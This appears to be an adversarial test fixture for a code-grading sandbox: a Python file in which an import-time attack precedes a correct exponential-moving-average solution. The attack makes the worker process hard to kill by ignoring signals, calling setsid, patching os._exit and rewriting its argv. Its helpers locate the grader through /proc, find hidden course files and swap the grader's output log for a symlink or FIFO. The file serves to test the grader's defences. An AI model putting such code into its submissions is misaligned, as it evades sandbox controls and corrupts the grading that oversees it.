# ======== ADVERSARIAL (survivor_worker_itself): importing ema.py makes the worker itself hard to kill: clears PR_SET_PDEATHSIG, setsid, ignores SIGTERM/SIGINT/SIGHUP, patches os._exit to sleep, and writes the survivor marker over its own argv; the worker still dies with the grade: full marks, no survivor afterwards
# --- adversarial helpers (shared text inserted into hostile files) ---
import os as _aos
import sys as _asys
import time as _atime

_MARK = "graders-adversarial-survivor"
_HERE = _aos.path.dirname(_aos.path.abspath(__file__))


def _adv_read(path, limit=1500):
    with open(path, "rb") as fh:
        return fh.read(limit).replace(b"\0", b"\n").decode("utf-8", "replace")


def _adv_status(pid, key):
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith(key + ":"):
                return line.split()[1:]
    return []


def _adv_cmdline(pid):
    try:
        return _adv_read(f"/proc/{pid}/cmdline", 4000)
    except OSError:
        return ""


def _adv_ancestors():
    """Outer pids of this process's ancestors (the /proc mount may be the host's)."""
    try:
        pid = int(_adv_status("self", "NSpid")[0])
    except (OSError, IndexError, ValueError):
        pid = _aos.getpid()
    chain, seen = [], set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        try:
            ppid = int(_adv_status(pid, "PPid")[0])
        except (OSError, IndexError, ValueError):
            break
        if ppid <= 0:
            break
        chain.append(ppid)
        pid = ppid
    if not chain and _aos.getppid() > 0:
        chain.append(_aos.getppid())
    return chain


def _adv_grader_pid():
    """The grading process: the first ancestor above the warm template."""
    chain = _adv_ancestors()
    last_template = -1
    for i, pid in enumerate(chain):
        if "graders.core.sandbox.child.forkserver" in _adv_cmdline(pid):
            last_template = i
    if 0 <= last_template < len(chain) - 1:
        return chain[last_template + 1]
    return chain[0] if chain else _aos.getppid()


def _adv_course_root():
    """Where the course (graders/, reference/) lives, as far as this process can tell."""
    pkg = _asys.modules.get("graders")
    path = getattr(pkg, "__file__", None) if pkg else None
    if path:
        return _aos.path.dirname(_aos.path.dirname(_aos.path.abspath(path)))
    for pid in _adv_ancestors():
        try:
            cwd = _aos.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if _aos.path.isdir(_aos.path.join(cwd, "graders")):
            return cwd
    return "/work/main"


def _adv_hidden(rel):
    return _aos.path.join(_adv_course_root(), rel)


def _adv_crash_with_log(target, kind="symlink"):
    """Replace the worker's output log (which the grader reads after a crash), then crash."""
    log = _aos.path.join(_HERE, ".output.log")
    try:
        _aos.unlink(log)
    except OSError:
        pass
    try:
        if kind == "symlink":
            _aos.symlink(target, log)
        elif kind == "hardlink":
            _aos.link(target, log)
        elif kind == "fifo":
            _aos.mkfifo(log)
        elif kind == "sparse":
            with open(log, "wb") as fh:
                fh.truncate(16 * 2**20 - 64)
                fh.seek(0, 2)
                fh.write(b"graders-adversarial-huge-log-end")
    except OSError:
        pass
    _aos._exit(3)


def _adv_leak(label, text):
    """Make a theft visible: the stolen text goes into the exception message (and so the report)."""
    raise RuntimeError(f"LEAKED {label}:\n{text}")
# --- end helpers ---
def _adv_harden_worker():
    import ctypes, signal
    libc = ctypes.CDLL(None)
    libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG = 0
    try:
        _aos.setsid()
    except OSError:
        pass
    for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(_sig, signal.SIG_IGN)
    _aos._exit = lambda code=0: _atime.sleep(300)
    try:  # rewrite our own argv in memory: /proc/<pid>/cmdline then shows the marker
        with open("/proc/self/stat") as fh:
            fields = fh.read().rsplit(")", 1)[1].split()
        start, end = int(fields[45]), int(fields[46])
        text = (_MARK + " ").encode()
        text = (text * ((end - start) // len(text) + 1))[:end - start - 1] + b"\0"
        ctypes.memmove(start, text, len(text))
    except (OSError, ValueError, IndexError):
        pass


_adv_harden_worker()
# ======== end of the attack; the correct solution follows

from itertools import accumulate

import torch


def _as_float_tensor(values, beta):
    if beta < 0 or beta >= 1 or beta != beta:
        raise ValueError("beta must be in [0, 1)")
    y = torch.as_tensor(values)
    return y if y.is_floating_point() else y.to(torch.float32)


def ema(values, beta=0.9):
    y = _as_float_tensor(values, beta)
    s = list(accumulate(y.tolist(), lambda prev, cur: beta * prev + (1 - beta) * cur))
    return torch.tensor(s, dtype=y.dtype, device=y.device)


def ema_bias_corrected(values, beta=0.9):
    y = _as_float_tensor(values, beta)
    v, out = 0.0, []
    for t, y_t in enumerate(y.tolist(), start=1):
        v = beta * v + (1 - beta) * y_t
        out.append(v / (1 - beta ** t))
    return torch.tensor(out, dtype=y.dtype, device=y.device)
